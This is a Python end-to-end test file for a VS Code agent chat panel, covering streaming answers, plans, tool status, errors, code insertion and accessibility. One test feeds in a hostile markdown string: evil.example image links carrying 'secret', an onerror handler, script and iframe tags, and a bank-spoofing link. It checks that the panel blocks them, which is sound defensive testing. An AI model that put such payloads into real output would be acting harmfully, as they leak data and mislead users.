"""What an agent says, as the panel of the real workbench shows it, and what it may not do there."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from tests.e2e import scripted
from tests.support.waiting import eventually
from tests.vscode.test_panel import SIGNAL, ask, begin, fresh, signal
from tests.vscode.window import Window

pytestmark = pytest.mark.timeout(400)


def chunk(text: str, kind: str = "agent_message_chunk") -> dict[str, object]:
    return {"update": {"sessionUpdate": kind, "content": {"type": "text", "text": text}}}


def test_an_answer_grows_while_its_thoughts_are_folded(window: Window) -> None:
    panel = begin(window)
    panel.prompt(
        scripted.steps(
            chunk("a *hidden* idea", "agent_thought_chunk"), {"say": "It **ra"}, SIGNAL, {"say": "ins**."}
        )
    )
    panel.answers("It **ra")  # not yet bold
    expect(panel.page.locator(".thought")).to_have_text("Thought")
    panel.button("Thought", exact=True).click()
    expect(panel.page.locator(".thought em")).to_have_text("hidden")
    signal(window)
    expect(panel.page.locator(".markdown strong")).to_have_text("rains")


def test_a_plan_tool_calls_and_usage_say_how_far_they_are(window: Window) -> None:
    def plan(*states: str) -> dict[str, object]:
        items = [
            {"content": f"Step {at}", "priority": "medium", "status": one} for at, one in enumerate(states)
        ]
        return {"update": {"sessionUpdate": "plan", "entries": items}}

    def tool(name: str, status: str) -> dict[str, object]:
        call = {"sessionUpdate": "tool_call", "toolCallId": name, "title": name, "kind": "fetch"}
        return {"update": {**call, "status": status}}

    usage = {"sessionUpdate": "usage_update", "used": 31_000, "size": 128_000}
    panel = begin(window)
    panel.prompt(
        scripted.steps(
            plan("completed", "in_progress"),
            tool("Looks", "in_progress"),
            tool("Fails", "failed"),
            {"update": usage},
            SIGNAL,
            plan("completed", "completed"),
            {"update": {"sessionUpdate": "tool_call_update", "toolCallId": "Looks", "status": "completed"}},
        )
    )
    status = panel.page.locator(".tool .status .sr")
    expect(panel.button("Plan: 1 of 2 done")).to_be_visible()
    expect(status).to_have_text(["running", "failed"])
    expect(panel.page.locator(".usage")).to_contain_text("24%")
    signal(window)
    expect(panel.button("Plan: 2 of 2 done")).to_be_visible()
    expect(status).to_have_text(["done", "failed"])


def test_an_agent_that_ends_in_its_turn_says_so_in_words_and_is_started_again(window: Window) -> None:
    panel = begin(window)
    panel.prompt(scripted.steps({"say": "begun"}, {"stderr": "out of memory\n"}, {"exit": 3}))
    error = panel.page.locator(".end .notice.error")
    expect(error).to_contain_text("scripted")
    expect(error).to_contain_text("out of memory")
    panel.ready()
    panel.prompt(scripted.steps({"say": "here again"}))
    panel.answers("here again")


def test_a_turn_that_fails_says_why_in_the_agents_words(window: Window) -> None:
    """With the code that ACP uses for a sign-in, and JSON-RPC for any error of a server."""
    panel = begin(window)
    panel.prompt(
        scripted.steps({"fail": {"code": -32000, "message": "You have no credits left (0 of 500)."}})
    )
    expect(panel.page.locator(".end .notice.error")).to_contain_text("You have no credits left (0 of 500).")
    expect(panel.button("Sign in")).to_have_count(0)
    panel.ready()


def test_each_block_of_code_is_inserted_by_its_own_button(window: Window) -> None:
    file = window.file("a.py", "x = 1\n")
    window.open(file)
    window.place(0, 0)
    panel = begin(window)
    panel.prompt(scripted.steps({"say": "```py\nfirst\n```\n\nor\n\n```py\nsecond\nthird\n```\n"}))
    panel.ready()
    buttons = panel.page.get_by_label("Insert at cursor")
    expect(buttons).to_have_count(2)
    buttons.nth(1).click()
    window.until_text(file, "second\nthirdx = 1\n")


HOSTILE = """![x](https://evil.example/?q=secret) ![y][1] <img src="https://evil.example/b.png" onerror="window.owned = 1">

[1]: https://evil.example/a.png

<script>window.owned = 1</script> <iframe src="https://evil.example"></iframe>

[docs](https://docs.example/a?b=c) [https://bank.example](https://evil.example)
"""


def test_an_answer_loads_nothing_and_its_links_wait_for_a_click(window: Window) -> None:
    asked: list[str] = []
    window.page.context.on("request", lambda request: asked.append(request.url))
    panel = begin(window)
    panel.prompt(scripted.steps({"say": HOSTILE}, {"say": "\n\nover"}))
    panel.answers("over")
    panel.ready()
    page = panel.page
    policy = page.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content") or ""
    assert "default-src 'none'" in policy
    assert re.search(r"script-src 'nonce-[\w+/=]{16,}'", policy)
    assert page.evaluate("window.owned") is None
    assert page.locator(".log").locator("img, iframe, script, [href], [src]").count() == 0
    panel.says("Image not loaded: x")
    panel.says("<script>window.owned = 1</script>")  # as the text it is
    link = page.get_by_role("link", name="docs", exact=True)
    expect(link).to_have_attribute("title", "https://docs.example/a?b=c")
    expect(page.locator(".target").filter(has_text="docs.example")).to_be_visible()
    expect(page.locator(".target").filter(has_text="(evil.example)")).to_be_visible()  # it said bank.example
    link.hover()
    window.settle()
    expect(window.page.get_by_role("dialog")).to_have_count(0)
    link.click()
    dialog = window.page.get_by_role("dialog")
    expect(dialog).to_contain_text("https://docs.example/a?b=c")
    dialog.get_by_role("button", name="Cancel").click()
    assert [one for one in asked if "evil.example" in one or "docs.example" in one] == []


def dropped(window: Window) -> int:
    """Messages of pages that the extension did not understand, by its log."""
    logs = window.server.data.glob("logs/**/acp-sidecar.acp-sidecar/*.log")
    return sum(log.read_text().count("panel: a message that is not understood") for log in logs)


def test_messages_that_do_not_fit_change_nothing(window: Window) -> None:
    panel = begin(window)
    panel.prompt(scripted.steps({"say": "stays"}))
    panel.answers("stays")
    panel.ready()
    for message in (
        None,
        {"type": "nonsense"},
        {"type": "conversation", "sessionId": "s", "entries": [{"id": "x", "kind": "html", "html": "<b>"}]},
        {"type": "overview", "overview": {"agents": "all"}},
    ):
        panel.page.evaluate("(one) => window.postMessage(one, '*')", message)
    # and in the other direction, by the way that a page's messages take: as if the page had been taken over
    outer = panel.page.parent_frame
    assert outer is not None
    post = "(message) => window['__vscode_post_message__']('onmessage', { message, transfer: [] })"
    before = dropped(window)
    outer.evaluate(post, {"type": "insert", "text": ["no text"]})
    outer.evaluate(post, {"type": "show", "what": "sessions"})  # the other side's
    panel.prompt(scripted.steps({"say": "goes on"}))
    panel.answers("goes on")
    eventually(lambda: dropped(window) == before + 2, "both are dropped, and the log says so")
    panel.answers("stays")


def test_each_message_and_question_is_said_once(window: Window) -> None:
    panel = begin(window)
    log = panel.page.get_by_role("log")
    panel.prompt(scripted.steps({"say": "first"}))
    expect(log).to_have_attribute("aria-live", "off")  # else streaming would be read out word by word
    panel.answers("first")
    panel.ready()
    panel.page.evaluate(
        """() => {
          window.said = [];
          const told = (changes) => window.said.push(...changes.flatMap((one) => [...one.addedNodes]).map((one) => one.textContent));
          new MutationObserver(told).observe(document.querySelector('#voice'), { subtree: true, childList: true });
        }"""
    )
    panel.prompt(scripted.steps({"say": "one "}, {"say": "two "}, {"say": "three"}, ask(1), {"say": "four"}))
    expect(panel.page.locator(".question button[aria-disabled=false]").first).to_be_attached()
    panel.button("Reject", exact=True).click()
    panel.ready()
    panel.prompt(fresh(1, {"say": "four"}))
    said = eventually(
        lambda: len(all_of := panel.page.evaluate("window.said")) > 3 and all_of, "all of it is said"
    )
    panel.ready()
    assert said[0] == "Agent: one two three"
    assert said[1].startswith("The agent asks: ")
    assert "echo 1" in said[1]
    assert said[2:] == ["Agent: four", "Agent: four"]


def test_motion_is_reduced(window: Window) -> None:
    panel = begin(window)
    panel.prompt(scripted.steps({"say": "begun"}, SIGNAL))
    panel.answers("begun")
    moves = "(it) => getComputedStyle(it).animationName"

    def moving() -> bool:
        return panel.page.locator(".spin").first.evaluate(moves) != "none"

    spinner = panel.page.locator("header .spin")
    expect(spinner).to_be_visible()
    for setting, expected in (("off", True), ("on", False)):
        window.configure({"workbench.reduceMotion": setting})
        eventually(lambda: moving() is expected, f"reduced motion {setting}")  # noqa: B023  # called at once
    signal(window)
    panel.ready()
